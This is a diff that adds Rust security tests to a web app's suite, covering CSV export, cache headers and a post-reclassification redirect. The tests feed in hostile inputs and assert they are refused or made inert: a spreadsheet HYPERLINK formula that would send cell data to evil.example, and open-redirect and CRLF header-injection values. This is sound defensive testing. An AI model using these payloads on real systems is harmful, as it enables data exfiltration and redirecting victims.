@@ -211,3 +211,65 @@ async fn people_see_their_sessions_by_device_and_revoke_one_or_all_others() {
     let forged = laptop.post(app.url("/account/sessions/revoke-others")).form(&[("csrf", "x")]).send().await.unwrap();
     assert_eq!(forged.status(), 403);
 }
+
+#[tokio::test]
+async fn a_subject_written_as_a_formula_is_text_in_the_organisation_archives_csv() {
+    use std::io::Read;
+    let app = spawn_app().await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    app.import("Ledgerly", &[crate::helpers::conversation("f1", "eve@evil.example", formula, "The export fails.")])
+        .await;
+    let dir = tempfile::tempdir().unwrap();
+    let archive = dir.path().join("org.tar");
+    jetson::services::org_archive::export(&app.state, app.org, &archive).await.unwrap();
+    let mut tar = tar::Archive::new(std::fs::File::open(&archive).unwrap());
+    let mut csv = String::new();
+    for entry in tar.entries().unwrap() {
+        let mut entry = entry.unwrap();
+        if entry.path().unwrap().to_string_lossy() == "conversations.csv" {
+            entry.read_to_string(&mut csv).unwrap();
+        }
+    }
+    let subjects: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
+        .deserialize::<std::collections::HashMap<String, String>>()
+        .map(|r| r.unwrap()["subject"].clone())
+        .collect();
+    assert_eq!(subjects, [format!("'{formula}")], "a spreadsheet shows it as text: {csv}");
+}
+
+#[tokio::test]
+async fn signed_in_pages_and_api_answers_are_never_cached_and_assets_are() {
+    let app = spawn_app().await;
+    let client = crate::pages::signed_in(&app).await;
+    let page = client.get(app.url("/")).send().await.unwrap();
+    assert_eq!(page.status(), 200);
+    assert_eq!(page.headers()["cache-control"], "no-store");
+    let api = reqwest::Client::new().get(app.url("/api/v1/work-items")).bearer_auth(&app.token).send().await.unwrap();
+    assert_eq!(api.headers()["cache-control"], "no-store");
+    let css = client.get(app.url("/assets/app.css")).send().await.unwrap();
+    assert_eq!(css.headers()["cache-control"], "public, max-age=3600");
+}
+
+#[tokio::test]
+async fn a_reclassification_only_returns_to_a_page_of_this_site() {
+    let app = spawn_app().await;
+    app.import("Ledgerly", &[crate::helpers::conversation("r1", "ann@acme.example", "Export", "The export fails.")])
+        .await;
+    let all = jetson_store::conversations::Filter { limit: 10, ..Default::default() };
+    let id = jetson_store::conversations::list(&app.state.db, app.org, &all).await.unwrap()[0].id;
+    let client = crate::pages::signed_in(&app).await;
+    let page = client.get(app.url(&format!("/conversations/{id}"))).send().await.unwrap().text().await.unwrap();
+    let csrf = crate::pages::csrf_of(&page);
+    let url = app.url(&format!("/conversations/{id}/reclassify"));
+    for back in
+        ["/\\evil.example", "//evil.example", "https://evil.example/", "/messages\u{7}", "/a\r\nSet-Cookie: x=1"]
+    {
+        let form = [("csrf", csrf.as_str()), ("category", "feature"), ("back", back)];
+        let res = client.post(&url).form(&form).send().await.unwrap();
+        assert_eq!(res.status(), 400, "{back:?} is refused");
+    }
+    let form = [("csrf", csrf.as_str()), ("category", "feature"), ("back", "/messages?review=1")];
+    let res = client.post(&url).form(&form).send().await.unwrap();
+    assert_eq!(res.status(), 303);
+    assert_eq!(res.headers()["location"], "/messages?review=1");
+}
